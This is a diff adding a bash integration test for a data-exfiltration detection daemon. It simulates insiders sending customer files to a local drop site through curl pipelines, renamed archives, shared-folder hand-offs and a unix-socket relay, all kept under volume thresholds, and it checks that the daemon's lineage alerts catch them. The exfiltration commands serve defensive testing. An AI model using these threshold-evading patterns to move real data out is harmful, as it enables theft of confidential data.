@@ -1,0 +1,169 @@
+#!/bin/bash
+# SPDX-License-Identifier: GPL-2.0-only
+# Lineage end to end: the real daemon, real login sessions, a drop site on 127.0.10.77.
+# Every insider below stays under every per-person volume threshold (bulk_read 50 MiB,
+# staging 50 MiB, no collection episode at all), so only following the data can catch
+# them: a hand-off through a shared folder between two users, a cat | gzip | curl
+# pipeline, a copy of a copy of a copy renamed into an archive, and a unix-socket relay
+# service outside any session that uploads for a user. Each alert must name the origin
+# session and user. The benign side: a labelled process that later uploads unrelated
+# data (its credit bounds what counts), a user who reads a few customer files and uploads
+# an unrelated file, a build, and a root backup outside any session: no alert.
+. "$(dirname "$0")/../lib/itest.sh"
+
+DROP=127.0.10.77:18080
+SRC=$T/src
+SHARE=$T/share
+mkdir -p "$SRC" "$SHARE"
+chmod a+rx "$T"
+chmod 1777 "$SHARE"
+for u in "alice 1101" "bob 1102" "carol 1103" "dave 1104" "erin 1105" "frank 1106" \
+	"grace 1107"; do
+	ensure_user $u
+done
+# Customer exports that do not compress away (gzip keeps about 3/4 of them): 3 MiB each,
+# plus a 96 KiB extract.
+for f in part1 part2 part3; do
+	head -c $((3 * 1024 * 1024 * 3 / 4)) /dev/urandom | base64 -w 76 >"$SRC/customers-$f.csv"
+done
+head -c $((96 * 1024 * 3 / 4)) /dev/urandom | base64 -w 76 >"$SRC/customers-small.csv"
+chmod -R a+rX "$SRC"
+
+python3 "$LIB/dropsite.py" --addr "${DROP%:*}" --port "${DROP#*:}" --count "$T/drop.count" \
+	>"$T/drop.out" 2>&1 &
+itest_on_exit "kill $!"
+wait_until 30 grep -q ready "$T/drop.out" || die "drop site"
+
+cat >"$T/exfilmon.yaml" <<YAML
+sources:
+  paths: ["$SRC"]
+egress:
+  allow: ["127.0.0.1/32"]
+detect:
+  window: 10m
+  bulk_read: 50MiB
+  bulk_objects: 2000
+  exfil: 1MiB
+  lookback: 1h
+  staging: 50MiB
+  drip: 200MiB/24h
+output:
+  alerts: $T/alerts.jsonl
+  evidence: $T/evidence
+agent:
+  state_dir: $T/state
+  poll_interval: 200ms
+YAML
+"$BUILD/exfilmond" -c "$T/exfilmon.yaml" --status "$T/status.json" --stderr \
+	--log-level info 2>"$T/daemon.log" &
+DAEMON=$!
+itest_on_exit "kill $DAEMON; wait $DAEMON"
+wait_until 60 test -s "$T/status.json" || { cat "$T/daemon.log"; die "daemon did not start"; }
+
+alerts() { python3 "$LIB/alerts.py" "$T/alerts.jsonl" "$@"; }
+derived() { alerts count --rule derived_exfiltration "$@"; }
+# wait_alert ARGS...: until a derived_exfiltration alert matching ARGS is there (5 s, the
+# issue's latency target, plus slack for a loaded 2-core machine).
+wait_alert() { wait_until 15 test "$(derived "$@")" -ge 1; }
+upload() { echo "curl -sS -T $1 http://$DROP/upload -o /dev/null"; }
+
+echo "hand-off: alice copies an export to the shared folder, bob uploads it"
+in_session 1101 "$T/alice.info" cp "$SRC/customers-part1.csv" "$SHARE/for-bob.csv" ||
+	die "alice workload"
+in_session 1102 "$T/bob.info" bash -c "$(upload "$SHARE/for-bob.csv")" || die "bob workload"
+A=$(info_session "$T/alice.info"); B=$(info_session "$T/bob.info")
+wait_alert --session "$B"
+check "bob: derived exfiltration naming alice's session" \
+	"$(derived --user bob --session "$B" --origin-session "$A" --origin-user alice \
+		--hand-off true --destination $DROP)" 1
+check "bob: the chain names the shared file" \
+	"$(derived --session "$B" --chain-contains "$SHARE/for-bob.csv")" 1
+
+echo "pipeline: carol runs cat | gzip | curl"
+in_session 1103 "$T/carol.info" bash -c \
+	"cat $SRC/customers-part2.csv | gzip -1 | curl -sS --data-binary @- http://$DROP/upload -o /dev/null" ||
+	die "carol workload"
+C=$(info_session "$T/carol.info")
+wait_alert --session "$C"
+check "carol: derived exfiltration, her own data, no hand-off" \
+	"$(derived --user carol --session "$C" --origin-session "$C" --hand-off false)" 1
+check "carol: the chain goes through the pipes" \
+	"$(derived --session "$C" --chain-contains "pipe:[")" 1
+
+echo "copies: dave copies a copy of a copy, renames it, archives it, uploads the archive"
+in_session 1104 "$T/dave.info" bash -c "
+	set -e; d=\$(mktemp -d); cd \$d
+	cp $SRC/customers-part3.csv a.csv; cp a.csv b.csv; cp b.csv c.csv
+	mv c.csv holiday-photos.dat; tar czf photos.tgz holiday-photos.dat
+	$(upload photos.tgz); rm -rf \$d" || die "dave workload"
+D=$(info_session "$T/dave.info")
+wait_alert --session "$D"
+check "dave: derived exfiltration of the archive, origin dave" \
+	"$(derived --user dave --session "$D" --origin-user dave --chain-contains photos.tgz)" 1
+
+echo "relay: a unix-socket service outside any session uploads for erin"
+in_session --keep-root 4294967295 "$T/relay.info" python3 "$LIB/unix_relay.py" \
+	--socket "$T/relay.sock" --url "http://$DROP/relay" >"$T/relay.out" 2>&1 &
+itest_on_exit "kill $!"
+wait_until 30 grep -q ready "$T/relay.out" || die "relay"
+in_session 1105 "$T/erin.info" python3 -c "
+import socket, sys
+data = open('$SRC/customers-part1.csv', 'rb').read()
+s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+s.connect('$T/relay.sock'); s.sendall(data); s.close()" || die "erin workload"
+E=$(info_session "$T/erin.info")
+wait_alert --origin-session "$E"
+check "relay: derived exfiltration judged on erin's session, hand-off, origin erin" \
+	"$(derived --user erin --session "$E" --origin-user erin --hand-off true \
+		--chain-contains "unix socket")" 1
+
+echo "bounded credit: frank reads a 96 KiB extract, then uploads 6 MiB of unrelated data"
+in_session 1106 "$T/frank.info" python3 -c "
+import http.client, os
+open('$SRC/customers-small.csv', 'rb').read()
+body = os.urandom(6 << 20)
+c = http.client.HTTPConnection('${DROP%:*}', ${DROP#*:})
+c.request('PUT', '/upload', body=body); c.getresponse().read()" || die "frank workload"
+F=$(info_session "$T/frank.info")
+
+echo "benign: grace reads a few customer files, then uploads an unrelated file"
+in_session 1107 "$T/grace.info" bash -c "
+	set -e; cat $SRC/customers-small.csv $SRC/customers-part2.csv >/dev/null
+	d=\$(mktemp -d); head -c 4M /dev/urandom >\$d/screenshot.png
+	$(upload \$d/screenshot.png); rm -rf \$d" || die "grace workload"
+G=$(info_session "$T/grace.info")
+echo "benign: a build, and a root backup outside any session"
+in_session 1104 "$T/build.info" bash -c '
+	cd $(mktemp -d) &&
+	for i in $(seq 1 20); do echo "int f$i(void) { return $i; }" > f$i.c; done &&
+	echo "int main(void) { return 0; }" > main.c &&
+	gcc -O2 -o app *.c && ./app && tar czf build.tgz *.c app' || die "build"
+in_session --keep-root 4294967295 "$T/backup.info" tar czf "$T/backup.tgz" -C "$SRC" . ||
+	die "backup"
+# Two poll intervals and the final drain at stop bring in whatever is still counted.
+sleep 1
+kill -TERM $DAEMON
+wait $DAEMON
+check "daemon exit status" "$?" 0
+
+check "frank: no alert (credit bounded to what he read)" "$(alerts count --user frank)" 0
+derived_frank=$("$BUILD/exfilctl" export --dir "$T/evidence" --session "$F" | python3 -c "
+import json, sys
+print(sum(r['data'].get('bytes', 0) for r in map(json.loads, sys.stdin)
+          if r['type'] == 'activity' and r['data'].get('kind') == 'derived_egress'))")
+small=$(stat -c %s "$SRC/customers-small.csv")
+check "frank: derived egress counted, at most the extract's size" \
+	"$(python3 -c "print(0 < $derived_frank <= $small)")" True
+check "grace: no alert" "$(alerts count --session "$G")" 0
+check "build: no alert" "$(alerts count --session "$(info_session "$T/build.info")")" 0
+check "backup outside a session: no alert" "$(alerts count --session-none)" 0
+check "no volume rule fired for anyone (all under the per-person thresholds)" \
+	"$(alerts count) $(derived)" "4 4"
+check "lineage records in the evidence" \
+	"$("$BUILD/exfilctl" export --dir "$T/evidence" | grep -c '"type":"lineage"' |
+		awk '{print ($1 > 0)}')" 1
+check "drop site received every upload" "$(test -s "$T/drop.count" && echo yes)" yes
+"$BUILD/exfilctl" verify --dir "$T/evidence" >/dev/null 2>&1
+check "evidence verifies" "$?" 0
+[ "$FAIL" = 0 ] || { echo "alerts:"; cat "$T/alerts.jsonl"; }
+itest_finish
